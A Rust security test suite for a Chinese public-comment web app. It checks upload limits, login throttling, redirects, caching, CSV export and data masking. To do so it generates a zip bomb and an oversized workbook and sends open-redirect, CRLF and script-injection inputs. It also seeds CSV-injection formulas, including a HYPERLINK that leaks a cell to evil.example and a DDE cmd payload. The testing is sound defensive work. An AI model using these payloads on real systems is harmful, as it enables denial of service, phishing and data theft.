//! The trust findings of the security probe, by kind: hostile and huge uploads, logins under
//! attack, redirects, statuses and caching, over-long requests, unbounded metrics, exports that
//! run formulas, personal data in folded forms, contacts, lookups, dispositions and unmoderated
//! opinions in public. Each runs on SQLite and on PostgreSQL.

use crate::support::*;
use app::auth::Role;
use app::ssr::Settings;
use axum::body::Body;
use http::{Request, StatusCode};

const SLUG: &str = "changji-urban-heating";

/// A workbook with one cell at A1 and one at XFD1048576: its declared range is 17 billion
/// cells (the reader that allocates the range aborts the process).
fn sparse_corner_workbook(sheet: &str, first: &str) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name(sheet).unwrap();
    ws.write_string(0, 0, first).unwrap();
    ws.write_string(1_048_575, 16_383, "x").unwrap();
    book.save_to_buffer().unwrap()
}

/// A workbook of `rows` opinion rows (the import's columns).
fn many_rows_workbook(rows: u32) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet_with_constant_memory().unwrap();
    ws.set_name("意见").unwrap();
    for (c, h) in [
        "条款",
        "意见类型",
        "意见内容",
        "收集方式",
        "代表人数",
        "收集日期",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for r in 1..=rows {
        ws.write_string(r, 0, "1").unwrap();
        ws.write_string(r, 1, "赞成").unwrap();
        ws.write_string(r, 2, format!("第{r}条意见")).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// A valid workbook whose one worksheet decompresses to `mb` megabytes (a zip bomb).
fn bomb_workbook(mb: usize) -> Vec<u8> {
    use std::io::Write;
    let small = many_rows_workbook(1);
    let mut src = zip::ZipArchive::new(std::io::Cursor::new(small)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for i in 0..src.len() {
        let mut f = src.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut f, &mut data).unwrap();
        out.start_file(&name, opts).unwrap();
        if name.ends_with("sheet1.xml") {
            // Padding inside the XML comment compresses a thousandfold.
            let text = String::from_utf8(data).unwrap();
            let (head, tail) = text.split_at(text.find("<sheetData").unwrap());
            out.write_all(head.as_bytes()).unwrap();
            out.write_all(b"<!--").unwrap();
            let pad = vec![b' '; 1 << 20];
            for _ in 0..mb {
                out.write_all(&pad).unwrap();
            }
            out.write_all(b"-->").unwrap();
            out.write_all(tail.as_bytes()).unwrap();
        } else {
            out.write_all(&data).unwrap();
        }
    }
    out.finish().unwrap().into_inner()
}

#[tokio::test]
async fn hostile_workbooks_are_refused_precisely_and_the_server_lives() {
    let app = TestApp::new().await;
    server::demo::seed(&app.db).await.unwrap();
    let operator = app.login(Role::Station).await;
    let admin = app.login(Role::Admin).await;
    let before = app.count("select count(*) from station_opinion").await;
    let import = |bytes: Vec<u8>, name: &'static str| {
        let (app, operator) = (&app, operator.clone());
        async move {
            app.post_multipart(
                "/api/opinions/import",
                &[("slug", SLUG), ("mode", "check")],
                Some((name, &bytes)),
                Some(&operator),
                false,
            )
            .await
        }
    };
    // The corner workbook, to both uploads.
    let res = import(sparse_corner_workbook("意见", "条款"), "corner.xlsx").await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    assert!(
        res.body.contains("XFD1048576") && res.body.contains("64 列"),
        "{}",
        res.body
    );
    let res = app
        .post_multipart(
            "/api/stations/upload",
            &[("dry_run", "1")],
            Some(("corner.xlsx", &sparse_corner_workbook("联系点", "name"))),
            Some(&admin),
            false,
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    assert!(res.body.contains("XFD1048576"), "{}", res.body);
    // Far more rows than the import takes: refused at the limit, not read to the end.
    let started = std::time::Instant::now();
    let res = import(many_rows_workbook(60_000), "many.xlsx").await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    assert!(res.body.contains("超过 5000 行"), "{}", res.body);
    eprintln!("60,000-row workbook refused in {:?}", started.elapsed());
    // A zip bomb: 200 MB of worksheet in a few hundred KB.
    let bomb = bomb_workbook(200);
    assert!(bomb.len() < 2 << 20, "{} bytes", bomb.len());
    let res = import(bomb, "bomb.xlsx").await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    assert!(res.body.contains("解压后超过 64 MB"), "{}", res.body);
    // Still serving, and nothing was stored.
    assert_eq!(app.get("/healthz", None).await.status, StatusCode::OK);
    assert_eq!(
        app.count("select count(*) from station_opinion").await,
        before
    );
}

/// A login from the given client address (the server trusts `X-Forwarded-For` here).
async fn login_from(app: &TestApp, client: &str, name: &str, password: &str) -> StatusCode {
    let req = same_site_post(
        "/api/auth/login",
        "application/json",
        "application/x-www-form-urlencoded",
        None,
    )
    .header("x-forwarded-for", client)
    .body(Body::from(encode(&[
        ("name", name),
        ("password", password),
    ])))
    .unwrap();
    app.send(req).await.status
}

#[tokio::test]
async fn logins_reserve_attempts_and_lock_out_only_the_guessing_client() {
    let app = TestApp::with_settings(Settings {
        trust_proxy: true,
        ..Settings::default()
    })
    .await;
    let (name, password) = app.account(Role::Admin).await;
    // A hundred concurrent guesses: only five are checked.
    let guesses = (0..100).map(|_| login_from(&app, "198.51.100.1", &name, "wrong-guess"));
    let statuses = futures::future::join_all(guesses).await;
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count() as i64;
    let verified: i64 = sqlx::query_scalar("select count(*) from login_attempt where name = $1")
        .bind(&name)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    // At most five reach the password check (fewer when the client's own limit, reserved
    // next, fills first under the race).
    assert!(
        (1..=5).contains(&verified),
        "{verified} checked: {statuses:?}"
    );
    assert_eq!(refused, 100 - verified, "{statuses:?}");
    // The guessing client is locked out, even with the right password …
    assert_eq!(
        login_from(&app, "198.51.100.1", &name, &password).await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // … the owner elsewhere is not (the name in another case is the same account) …
    assert_eq!(
        login_from(&app, "203.0.113.50", &name.to_uppercase(), &password).await,
        StatusCode::OK
    );
    // … and the admin's shell lifts the lock.
    assert!(app::auth::ssr::unlock(&app.db, &name).await.unwrap() >= 1);
    assert_eq!(
        login_from(&app, "198.51.100.1", &name, &password).await,
        StatusCode::OK
    );
}

#[tokio::test]
async fn passwords_are_strong_names_unique_and_a_change_ends_other_sessions() {
    let app = TestApp::new().await;
    let (name, password) = app.account(Role::Committee).await;
    let here = app.login_as(&name, &password).await;
    let elsewhere = app.login_as(&name, &password).await;
    for weak in [
        "password123",
        "1234567890ab",
        "qwertyuiop123",
        &format!("{name}1"),
    ] {
        let res = app
            .post_form(
                "/api/account/password",
                &[("current", &password), ("new_password", weak)],
                Some(&here),
            )
            .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{weak}: {}",
            res.body
        );
        assert!(res.body.contains("太容易被猜到"), "{}", res.body);
    }
    let res = app
        .post_form(
            "/api/account/password",
            &[
                ("current", &password),
                ("new_password", "青稞-烤包子-Tianchi-1987"),
            ],
            Some(&here),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    let page = |cookie: String| {
        let app = &app;
        async move {
            app.post_form("/api/session/info", &[], Some(&cookie))
                .await
                .body
        }
    };
    assert!(
        page(here.clone()).await.contains(&name),
        "this session stays"
    );
    assert!(
        !page(elsewhere).await.contains(&name),
        "the other session ended with the old password"
    );
    // Names are one account whatever their case.
    let taken = app::account::ssr::create_account(
        &app.db,
        &app::account::NewAccount {
            name: name.to_uppercase(),
            display_name: "另一人".into(),
            role: Role::Citizen,
            station: None,
            password: "Kanas-湖边-云杉-2031".into(),
        },
    )
    .await;
    assert!(
        matches!(taken, Err(app::error::AppError::Conflict(_))),
        "{taken:?}"
    );
}

#[tokio::test]
async fn redirects_stay_on_the_site_and_never_panic() {
    let app = TestApp::new().await;
    let (name, password) = app.account(Role::Citizen).await;
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\u{b}/evil.example",
        "//evil.example/x",
        "/\\evil.example",
        "https://evil.example/",
        "/ok\r\nSet-Cookie: x=1",
    ] {
        let res = app
            .post_plain_form(
                "/api/auth/login",
                &[("name", &name), ("password", &password), ("next", next)],
                None,
                "/login",
            )
            .await;
        assert_eq!(res.status, StatusCode::FOUND, "{next:?}: {}", res.body);
        assert_eq!(res.header("location"), Some("/"), "{next:?}");
    }
    let res = app
        .post_plain_form(
            "/api/auth/login",
            &[
                ("name", &name),
                ("password", &password),
                ("next", "/my/comments?x=1"),
            ],
            None,
            "/login",
        )
        .await;
    assert_eq!(res.header("location"), Some("/my/comments?x=1"));
    // An error sends the browser back to the form — only ever to a page of this site.
    let req = same_site_post(
        "/api/auth/login",
        "text/html",
        "application/x-www-form-urlencoded",
        None,
    )
    .header("referer", "http://yijian.test//evil.example/x")
    .body(Body::from(encode(&[("name", "nobody"), ("password", "x")])))
    .unwrap();
    let res = app.send(req).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    assert_eq!(res.header("location"), Some("/#form-error"));
}

#[tokio::test]
async fn refusals_answer_their_status_staff_pages_are_not_cached() {
    let app = TestApp::new().await;
    server::demo::seed(&app.db).await.unwrap();
    let citizen = app.login(Role::Citizen).await;
    let committee = app.login(Role::Committee).await;
    let anon = app.get("/committee/moderation", None).await;
    assert_eq!(anon.status, StatusCode::UNAUTHORIZED);
    assert!(anon.body.contains("请先登录") && anon.body.contains("/login?next="));
    let forbidden = app.get("/admin/users", Some(&citizen)).await;
    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
    assert!(forbidden.body.contains("没有执行此操作的权限"));
    for missing in [
        "/drafts/no-such-draft",
        "/no/such/page",
        "/receipt/YJ-0000-0000",
    ] {
        let res = app.get(missing, None).await;
        assert_eq!(res.status, StatusCode::NOT_FOUND, "{missing}");
        assert!(res.body.contains("返回首页"), "{missing}: a way back");
    }
    let staff = app.get("/committee/search?q=供热", Some(&committee)).await;
    assert_eq!(staff.header("cache-control"), Some("no-store"));
    let export = app
        .get(
            &format!("/committee/export.csv?draft={SLUG}"),
            Some(&committee),
        )
        .await;
    assert_eq!(export.header("cache-control"), Some("no-store"));
    let public = app.get("/drafts", None).await;
    assert_ne!(public.header("cache-control"), Some("no-store"));
    assert!(public.header("strict-transport-security").is_none());
    let https = app
        .another_server(Settings {
            public_url: Some(url::Url::parse("https://yijian.example.gov.cn").unwrap()),
            secure_cookies: true,
            ..Settings::default()
        })
        .await;
    let res = https.get("/drafts", None).await;
    assert!(res
        .header("strict-transport-security")
        .is_some_and(|h| h.starts_with("max-age=")));
}

#[tokio::test]
async fn over_long_requests_get_an_answer_with_or_without_a_session() {
    let app = TestApp::new().await;
    let cookie = app.login(Role::Committee).await;
    let long = "a".repeat(9000);
    for c in [None, Some(cookie.as_str())] {
        for path in [
            format!("/healthz?q={long}"),
            format!("/committee/search?q={long}"),
            format!("/committee/export.csv?draft={SLUG}&q={long}"),
        ] {
            let res = tokio::time::timeout(std::time::Duration::from_secs(5), app.get(&path, c))
                .await
                .expect("answered");
            assert_eq!(res.status, StatusCode::URI_TOO_LONG, "{}", &path[..30]);
            assert!(res.body.contains("网址太长"));
        }
        let mut b = Request::get("/healthz")
            .header("host", HOST)
            .header("x-padding", "b".repeat(40_000));
        if let Some(c) = c {
            b = b.header("cookie", c);
        }
        let res = app.send(b.body(Body::empty()).unwrap()).await;
        assert_eq!(res.status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    }
    // A long but allowed query is refused by the search with a message, promptly.
    let q = "供热管理条例".repeat(340);
    let res = app
        .get(
            &format!("/committee/search?q={}", urlencode(&q)),
            Some(&cookie),
        )
        .await;
    assert!(
        res.status == StatusCode::URI_TOO_LONG || res.body.contains("检索词太长"),
        "{}",
        res.status
    );
}

fn urlencode(s: &str) -> String {
    app::components::urlencode(s)
}

#[tokio::test]
async fn metrics_labels_stay_bounded_whatever_the_method() {
    let app = TestApp::new().await;
    for i in 0..300 {
        let req = Request::builder()
            .method(format!("X{i}").as_str())
            .uri("/nowhere")
            .header("host", HOST)
            .body(Body::empty())
            .unwrap();
        app.send(req).await;
    }
    let admin = app.login(Role::Admin).await;
    let metrics = app.get("/metrics", Some(&admin)).await;
    assert_eq!(metrics.status, StatusCode::OK);
    assert!(!metrics.body.contains("X17"));
    assert!(metrics.body.contains("method=\"OTHER\""));
}

#[tokio::test]
async fn csv_exports_never_carry_a_live_formula() {
    let app = TestApp::new().await;
    server::demo::seed(&app.db).await.unwrap();
    let committee = app.login(Role::Committee).await;
    let admin = app.login(Role::Admin).await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
    ];
    for (i, f) in formulas.iter().enumerate() {
        sqlx::query(
            "insert into comment (draft_id, version_number, unit_uid, unit_label, stance, reason, \
             region, category, tracking, status, created_at, name) \
             select id, 2, 'art-1', '第一条', 'support', $1, '', '', $2, 'published', 0, $1 \
             from draft where slug = $3",
        )
        .bind(f)
        .bind(format!("YJ-FORM-{i:04}"))
        .bind(SLUG)
        .execute(&app.db.pool)
        .await
        .unwrap();
    }
    let csv = app
        .get(
            &format!("/committee/export.csv?draft={SLUG}"),
            Some(&committee),
        )
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    for line in csv.body.lines() {
        for cell in line.split("\",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula in {line}"
            );
        }
    }
    assert!(csv.body.contains("'=HYPERLINK("), "kept, as text");
    // The station list: a station named like a formula exports guarded and imports back as
    // it was.
    sqlx::query("update station set name = '=cmd|'' calc''!A1' where name = '昌吉市'")
        .execute(&app.db.pool)
        .await
        .unwrap();
    let stations = app.get("/admin/stations.csv", Some(&admin)).await;
    assert!(stations.body.contains("'=cmd|"), "guarded");
    let rows = app::station::csv::parse(stations.body.as_bytes()).unwrap();
    assert!(
        rows.iter().any(|r| r.name == "=cmd|' calc'!A1"),
        "reads back unchanged"
    );
}

#[tokio::test]
async fn contacts_texts_and_lookups_are_checked() {
    let app = TestApp::new().await;
    server::demo::seed(&app.db).await.unwrap();
    let submit = |reason: &str, contact: &str, key: &str| {
        let (reason, contact, key) = (reason.to_string(), contact.to_string(), key.to_string());
        let app = &app;
        async move {
            app.post_form(
                "/api/comments/submit",
                &[
                    ("slug", SLUG),
                    ("uid", "art-1"),
                    ("stance", "support"),
                    ("reason", &reason),
                    ("contact", &contact),
                    ("idempotency_key", &key),
                ],
                None,
            )
            .await
        }
    };
    for (reason, contact) in [
        ("赞成。", "<script>alert(1)</script>@evil.cn"),
        ("赞成。", "1234567"),
        ("\u{200b}\u{200c}\u{feff}", ""),
    ] {
        let key = format!("trust-{:016x}", rand::random::<u64>());
        let res = submit(reason, contact, &key).await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{contact:?}: {}",
            res.body
        );
    }
    let stored = app
        .count("select count(*) from comment where idempotency_key like 'trust-%'")
        .await;
    assert_eq!(stored, 0);
    // Personal data in full-width or spaced forms is masked in public and not searchable.
    let key = format!("trust-{:016x}", rand::random::<u64>());
    let res = submit(
        "请致电１３９ ０９９４ ５６７８，或写信 li＠example．cn",
        "",
        &key,
    )
    .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    sqlx::query("update comment set status = 'published' where idempotency_key = $1")
        .bind(&key)
        .execute(&app.db.pool)
        .await
        .unwrap();
    let public = app
        .post_form(
            "/api/comments/public",
            &[("slug", SLUG), ("uid", "art-1")],
            None,
        )
        .await;
    assert!(public.body.contains("［电话已隐去］") && public.body.contains("［邮箱已隐去］"));
    assert!(!public.body.contains("５６７８") && !public.body.contains("example"));
    // Tracking numbers cannot be tried by the hundred.
    let mut limited = false;
    for i in 0..40 {
        let res = app
            .post_form(
                "/api/comments/receipt",
                &[("tracking", &format!("YJ-AAAA-{i:04}"))],
                None,
            )
            .await;
        if res.status == StatusCode::TOO_MANY_REQUESTS {
            limited = true;
            assert!(res.header("retry-after").is_some());
            break;
        }
    }
    assert!(limited, "lookups are rate limited");
}

#[tokio::test]
async fn dispositions_and_unmoderated_opinions_stay_out_of_public_views() {
    let app = TestApp::new().await;
    server::demo::seed(&app.db).await.unwrap();
    let committee = app.login(Role::Committee).await;
    // The demo has dispositions (第五条) but no published feedback report.
    assert!(
        app.count("select count(*) from comment where disposition <> ''")
            .await
            > 0
    );
    for q in ["供热", "热费"] {
        let res = app.post_form("/api/search/public", &[("q", q)], None).await;
        let r: app::search::SearchResults = serde_json::from_str(&res.body).unwrap();
        assert!(r.hits.iter().all(|h| h.disposition.is_empty()), "{q}");
        assert!(r.facets.iter().all(|f| f.name != "disposition"), "{q}");
        let page = app
            .get(
                &format!("/search?q={}&disposition=not_adopted", urlencode(q)),
                None,
            )
            .await;
        assert!(!page.body.contains("处理结果") && !page.body.contains("not_adopted"));
    }
    // The open-data export is for publishing: no dispositions before the report is public.
    let open_data = app
        .get(
            &format!("/committee/export.json?draft={SLUG}"),
            Some(&committee),
        )
        .await;
    assert_eq!(open_data.status, StatusCode::OK);
    assert!(
        !open_data.body.contains("\"disposition\":\"partly\"")
            && !open_data.body.contains("\"disposition\":\"not_adopted\""),
        "dispositions in open data before the report"
    );
    // Fifteen unmoderated spam opinions, then the report is published.
    for i in 0..15 {
        sqlx::query(
            "insert into comment (draft_id, version_number, unit_uid, unit_label, stance, reason, \
             region, category, tracking, status, created_at) \
             select id, 2, 'art-1', '第一条', 'support', '加微信领取补贴优惠活动', '', '', $1, \
             'received', 0 from draft where slug = $2",
        )
        .bind(format!("YJ-SPAM-{i:04}"))
        .bind(SLUG)
        .execute(&app.db.pool)
        .await
        .unwrap();
    }
    let res = app
        .post_form(
            "/api/feedback/publish",
            &[("slug", SLUG), ("confirmed", "1")],
            Some(&committee),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    let report = app.get(&format!("/drafts/{SLUG}/feedback"), None).await;
    assert_eq!(report.status, StatusCode::OK);
    assert!(
        !report.body.contains("加微信"),
        "unmoderated opinions are not public"
    );
    let r: app::feedback::FeedbackReport = serde_json::from_str(
        &app.post_form("/api/feedback/report", &[("slug", SLUG)], None)
            .await
            .body,
    )
    .unwrap();
    let reported: i64 = r.articles.iter().map(|a| a.received).sum();
    let published = app
        .count("select count(*) from comment where status = 'published'")
        .await;
    assert_eq!(
        reported, published,
        "every public count counts published opinions only"
    );
}

#[tokio::test]
async fn a_held_database_lock_answers_503_and_the_form_can_be_sent_again() {
    use sqlx::Executor;
    let app = TestApp::new().await;
    let (name, password) = app.account(Role::Citizen).await;
    // Another process holds the write lock for longer than a request waits (10 s).
    let holder = app::ssr::db::connect(&app.url).await.unwrap();
    let mut conn = holder.pool.acquire().await.unwrap();
    if wants_postgres() {
        conn.execute("begin").await.unwrap();
        conn.execute("lock table login_throttle in access exclusive mode")
            .await
            .unwrap();
    } else {
        conn.execute("begin exclusive").await.unwrap();
    }
    let started = std::time::Instant::now();
    let res = app
        .post_form(
            "/api/auth/login",
            &[("name", &name), ("password", &password)],
            None,
        )
        .await;
    assert_eq!(res.status, StatusCode::SERVICE_UNAVAILABLE, "{}", res.body);
    assert!(res.header("retry-after").is_some());
    assert!(
        started.elapsed() >= std::time::Duration::from_secs(5),
        "it waited first"
    );
    conn.execute("rollback").await.unwrap();
    drop(conn);
    let res = app
        .post_form(
            "/api/auth/login",
            &[("name", &name), ("password", &password)],
            None,
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fresh_demo_takes_writes_at_once_without_a_500() {
    let exe_path = crate::support::yijian_bin();
    let exe = exe_path.as_path();
    let (url, dir) = fresh_database_url().await;
    let data = dir.unwrap_or_else(|| {
        std::env::temp_dir().join(format!("yijian-fresh-{:x}", rand::random::<u64>()))
    });
    let pg = wants_postgres().then_some(url.as_str());
    // The rate limits are not what this checks: twelve clients on one address log in to four
    // accounts, and on a busy machine (slow password hashing) more than five attempts on one
    // account can be in flight at once, which the login limit counts as possible failures.
    let flags = [
        "--comment-per-ip-per-min",
        "1000000000",
        "--comment-challenge-from-per-min",
        "1000000000",
        "--login-max-per-account",
        "1000",
        "--login-max-per-ip",
        "1000",
    ];
    let mut server = server::bench::ServerProcess::start(exe, &data, pg, &flags)
        .await
        .unwrap();
    let addr = server.addr;
    // Right after /healthz said ready, while the outbox mails 437 stations: logins and comments.
    let tasks: Vec<_> = (0..12)
        .map(|i| {
            tokio::spawn(async move {
                let mut c = server::httpc::Conn::connect(addr).await.unwrap();
                let mut statuses = Vec::new();
                for j in 0..5 {
                    let (name, password) = [
                        ("committee", "demo-committee-2026"),
                        ("admin", "demo-admin-2026"),
                        ("station", "demo-station-2026"),
                        ("citizen", "demo-citizen-2026"),
                    ][(i + j) % 4];
                    let login =
                        server::httpc::encode_form(&[("name", name), ("password", password)]);
                    statuses.push(c.post_form("/api/auth/login", &login).await.unwrap().status);
                    let comment = server::httpc::encode_form(&[
                        ("slug", "changji-urban-heating"),
                        ("uid", "art-1"),
                        ("stance", "support"),
                        ("reason", "赞成本条。"),
                        ("idempotency_key", &format!("fresh-demo-{i:04}-{j:04}-key")),
                    ]);
                    statuses.push(
                        c.post_form("/api/comments/submit", &comment)
                            .await
                            .unwrap()
                            .status,
                    );
                }
                statuses
            })
        })
        .collect();
    let mut all = Vec::new();
    for t in tasks {
        all.extend(t.await.unwrap());
    }
    server.kill();
    assert!(all.iter().all(|s| *s != 500), "{all:?}");
    assert!(all.iter().all(|s| *s == 200), "{all:?}");
}
